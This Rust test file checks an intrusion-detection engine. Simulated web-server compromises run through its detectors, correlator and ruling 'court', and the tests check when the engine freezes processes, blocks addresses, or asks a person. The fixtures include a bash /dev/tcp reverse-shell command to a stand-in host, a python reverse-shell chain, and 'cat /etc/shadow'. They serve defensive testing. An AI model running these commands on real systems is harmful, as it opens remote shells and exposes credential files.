//! The road from event to ruling: panel, correlator and court together, as the engine joins them.

#![allow(clippy::unwrap_used, clippy::panic)] // a test fails by panic

use std::sync::Arc;

use bartizan_config::Policy;
use bartizan_court::{Case, Court, Ruling};
use bartizan_detect::correlator::{Correlator, IncidentUpdate};
use bartizan_detect::detectors::DetectorSet;
use bartizan_model::*;

const FAR: &str = "198.51.100.7";

struct Bench {
    panel: DetectorSet,
    correlator: Correlator,
    court: Court,
    events: u64,
}

impl Bench {
    fn new() -> Self {
        let policy = Policy::built_in().unwrap();
        Self {
            panel: DetectorSet::new(&policy, &[]),
            correlator: Correlator::new(&policy, IncidentId(1)),
            court: Court::new(&policy, WarrantId(1)),
            events: 0,
        }
    }

    fn see(&mut self, process: &Arc<Process>, kind: EventKind) -> Vec<IncidentUpdate> {
        self.events += 1;
        let event = Event {
            id: EventId(self.events),
            at: at(self.events as i64),
            kind,
            process: Some(Arc::clone(process)),
            source: Source::Ebpf,
            complete: true,
        };
        self.panel.observe(&event).into_iter().map(|signal| self.correlator.join(signal)).collect()
    }

    fn rulings(&mut self, incident: &Incident, mode: Mode, tree: &[Arc<Process>]) -> Vec<Ruling> {
        let proof = self.correlator.proof(incident.id);
        self.court.propose(&Case {
            incident,
            proof: &proof,
            mode,
            lifeline: &Lifeline::default(),
            tree,
            active: &[],
            connections: &[],
            sources: &bartizan_court::NothingKnown,
            now: at(self.events as i64),
        })
    }
}

fn at(second: i64) -> Timestamp {
    chrono::DateTime::from_timestamp(1_800_000_000 + second, 0).unwrap()
}

fn process(pid: u32, exe: &str, argv: &[&str], parent: Option<&Process>, role: Option<ServiceRole>) -> Arc<Process> {
    let key = ProcessKey { boot: BootId(7), pid, start: u64::from(pid) };
    let mut ancestors: Vec<Ancestor> = parent.iter().map(|p| Ancestor { key: p.key, exe: p.exe.clone() }).collect();
    let mut roots: Vec<Root> = role.iter().map(|role| Root { role: *role, key, exe: exe.into() }).collect();
    if let Some(parent) = parent {
        ancestors.extend(parent.lineage.ancestors.iter().cloned());
        roots.extend(parent.lineage.roots.iter().cloned());
    }
    Arc::new(Process {
        ppid: parent.map_or(1, |p| p.pid),
        parent: parent.map(|p| p.key),
        exe: exe.into(),
        argv: argv.iter().map(|a| HostText::from(*a)).collect(),
        cwd: "/".into(),
        uid: 33,
        euid: 33,
        user: Some("www-data".into()),
        cgroup: "/".into(),
        lineage: Lineage { ancestors: ancestors.into(), elided: 0, roots: roots.into() },
        ..Process::unknown(key, at(0))
    })
}

fn connect(to: &str, port: u16) -> EventKind {
    EventKind::Connect {
        net: Flow {
            proto: Protocol::Tcp,
            src: "0.0.0.0".parse().unwrap(),
            sport: 0,
            dst: Some(to.parse().unwrap()),
            dport: Some(port),
            name: None,
        },
    }
}

#[test]
fn a_web_intrusion_is_one_incident_and_is_contained_by_mode() {
    let mut bench = Bench::new();
    let nginx = process(812, "/usr/sbin/nginx", &["nginx"], None, Some(ServiceRole::WebServer));
    let shell = process(900, "/usr/bin/bash", &["bash", "-c", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"], Some(&nginx), None);
    let mut inner = Process::clone(&process(901, "/usr/bin/bash", &["bash", "-i"], Some(&shell), None));
    inner.stdio_sockets = 0b111;
    let inner = Arc::new(inner);

    let first = bench.see(&shell, EventKind::Exec).pop().unwrap().incident;
    assert!(first.confidence.get() < 0.75, "one family alone: {}", first.confidence);
    let tree = [Arc::clone(&shell), Arc::clone(&inner)];
    let asked = bench.rulings(&first, Mode::Balanced, &tree);
    assert!(
        matches!(asked.as_slice(), [Ruling::Ask { plan, .. }] if plan.to_string() == "freeze /usr/bin/bash (pid 900) and below"),
        "{asked:?}"
    );

    bench.see(&shell, connect(FAR, 4444));
    let last = bench.see(&inner, EventKind::Exec).pop().unwrap().incident;
    assert_eq!(last.id, first.id);
    assert!(last.confidence.get() >= 0.85 && last.posture >= Posture::AggressiveContain, "{}", last.confidence);
    assert_eq!((last.subject, last.addresses.clone()), (Some(shell.key), vec![FAR.parse().unwrap()]));
    assert!(last.sentence.starts_with("nginx (pid 812) ran \"bash -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\" as bash (pid 900), which connected to 198.51.100.7:4444"), "{}", last.sentence);

    // One act: BALANCED asks, and AGGRESSIVE shuts out who sits at the other end, for the kernel knows that somebody does.
    assert_eq!(done(bench.rulings(&last, Mode::Balanced, &tree)), [""; 0]);
    assert_eq!(done(bench.rulings(&last, Mode::Aggressive, &tree)), ["block from 198.51.100.7"]);

    // What is typed into it is another.
    let dropped = process(902, "/tmp/x", &["/tmp/x"], Some(&inner), None);
    let grown = bench.see(&dropped, EventKind::Exec).pop().unwrap().incident;
    assert_eq!(grown.id, first.id);
    let tree = [Arc::clone(&shell), Arc::clone(&inner), dropped];
    assert_eq!(done(bench.rulings(&grown, Mode::Balanced, &tree)), ["freeze /usr/bin/bash (pid 900) and below"]);
}

/// What is done without a person.
fn done(rulings: Vec<Ruling>) -> Vec<String> {
    let act = |ruling| if let Ruling::Act(warrant) = ruling { Some(warrant.plan().to_string()) } else { None };
    rulings.into_iter().filter_map(act).collect()
}

#[test]
fn balanced_acts_as_soon_as_a_stolen_shell_does_anything_else() {
    let mut bench = Bench::new();
    let nginx = process(812, "/usr/sbin/nginx", &["nginx"], None, Some(ServiceRole::WebServer));
    let shell = process(900, "/usr/bin/bash", &["bash", "-c", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"], Some(&nginx), None);
    let mut inner = Process::clone(&process(901, "/usr/bin/bash", &["bash", "-i"], Some(&shell), None));
    inner.stdio_sockets = 0b111;
    let inner = Arc::new(inner);
    bench.see(&shell, EventKind::Exec);
    bench.see(&shell, connect(FAR, 4444));
    bench.see(&inner, EventKind::Exec);
    let file = FileChange::new("/etc/shadow".into(), FileChangeKind::Opened);
    let cat = process(902, "/usr/bin/cat", &["cat", "/etc/shadow"], Some(&inner), None);
    let incident = bench.see(&cat, EventKind::FileOpen { file }).pop().unwrap().incident;
    let why = bench.correlator.explain(incident.id, &[]).unwrap().why;
    assert!(why.iter().any(|line| line.starts_with("2 independent pieces of evidence: ")), "{why:#?}");
    let tree = [shell, inner, cat];
    assert_eq!(
        done(bench.rulings(&incident, Mode::Balanced, &tree)),
        ["freeze /usr/bin/bash (pid 900) and below", "block from 198.51.100.7"]
    );
}

#[test]
fn a_reverse_shell_by_python_is_contained() {
    let mut bench = Bench::new();
    let php = process(812, "/usr/sbin/php-fpm8.2", &["php-fpm"], None, Some(ServiceRole::WebServer));
    let sh = process(900, "/usr/bin/dash", &["sh", "-c", "python3 /var/www/x.py"], Some(&php), None);
    let python = process(901, "/usr/bin/python3.11", &["python3", "/var/www/x.py"], Some(&sh), None);
    let mut shell = Process::clone(&process(902, "/usr/bin/dash", &["/bin/sh", "-i"], Some(&python), None));
    shell.stdio_sockets = 0b111;
    bench.see(&sh, EventKind::Exec);
    bench.see(&python, EventKind::Exec);
    bench.see(&python, connect(FAR, 443));
    let incident = bench.see(&Arc::new(shell), EventKind::Exec).pop().unwrap().incident;
    assert!(incident.confidence.get() >= 0.85, "{}", incident.confidence);
    assert_eq!((incident.subject, incident.addresses), (Some(sh.key), vec![FAR.parse().unwrap()]));
}

#[test]
fn a_node_application_that_runs_a_helper_is_never_acted_on_alone() {
    let mut bench = Bench::new();
    let node = process(812, "/usr/bin/node", &["node", "app.js"], None, Some(ServiceRole::WebServer));
    let mut helper = Process::clone(&process(900, "/usr/bin/dash", &["/bin/sh", "-c", "convert a.png b.jpg"], Some(&node), None));
    helper.stdio_sockets = 0b111;
    let helper = Arc::new(helper);
    bench.see(&node, connect("10.0.0.5", 5432));
    let incident = bench.see(&helper, EventKind::Exec).pop().unwrap().incident;
    assert!(incident.confidence.get() < 0.75, "{}", incident.confidence);
    let rulings = bench.rulings(&incident, Mode::Aggressive, &[helper]);
    assert!(rulings.iter().all(|ruling| matches!(ruling, Ruling::Ask { .. })), "{rulings:?}");
}

#[test]
fn a_loss_in_the_story_takes_the_last_word_from_the_agent() {
    for (from, to, count, touched) in [(1, 2, 40, true), (-20, -10, 7, true), (2, 3, 0, true), (-500, -400, 9, false), (-20, -10, 0, false)]
    {
        let mut bench = Bench::new();
        let nginx = process(812, "/usr/sbin/nginx", &["nginx"], None, Some(ServiceRole::WebServer));
        let shell = process(900, "/usr/bin/bash", &["bash", "-c", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"], Some(&nginx), None);
        let mut inner = Process::clone(&process(901, "/usr/bin/bash", &["bash", "-i"], Some(&shell), None));
        inner.stdio_sockets = 0b111;
        let inner = Arc::new(inner);
        bench.see(&shell, EventKind::Exec);
        bench.see(&shell, connect(FAR, 4444));
        let hop = if count > 0 { "lane-bulk" } else { "the sensors changed" };
        bench.correlator.loss(&Loss { from: Some(at(from)), to: Some(at(to)), ..Loss::new(hop, count) }, at(to));
        bench.see(&inner, EventKind::Exec);
        let dropped = process(902, "/tmp/x", &["/tmp/x"], Some(&inner), None);
        let last = bench.see(&dropped, EventKind::Exec).pop().unwrap().incident;
        assert_eq!(last.complete, !touched, "{count} lost from {from} to {to}");
        let evidence = bench.correlator.explain(last.id, &[]).unwrap().evidence;
        assert_eq!(evidence.starts_with("incomplete"), touched, "{evidence}");
        let rulings = bench.rulings(&last, Mode::Balanced, &[Arc::clone(&shell), Arc::clone(&inner)]);
        assert!(!rulings.is_empty());
        for ruling in rulings {
            match ruling {
                Ruling::Act(warrant) => {
                    assert!(!touched, "acted alone on incomplete evidence: {}", warrant.plan());
                    assert!(warrant.plan().kind().is_reversible());
                }
                Ruling::Ask { plan, .. } if plan.to_string().starts_with("block to") => {}
                Ruling::Ask { plan, held_because, .. } => {
                    assert!(touched && held_because.contains("evidence was lost"), "{plan}: {held_because}");
                }
                Ruling::Refuse { plan, reason } => panic!("{plan}: {reason}"),
            }
        }
    }
}
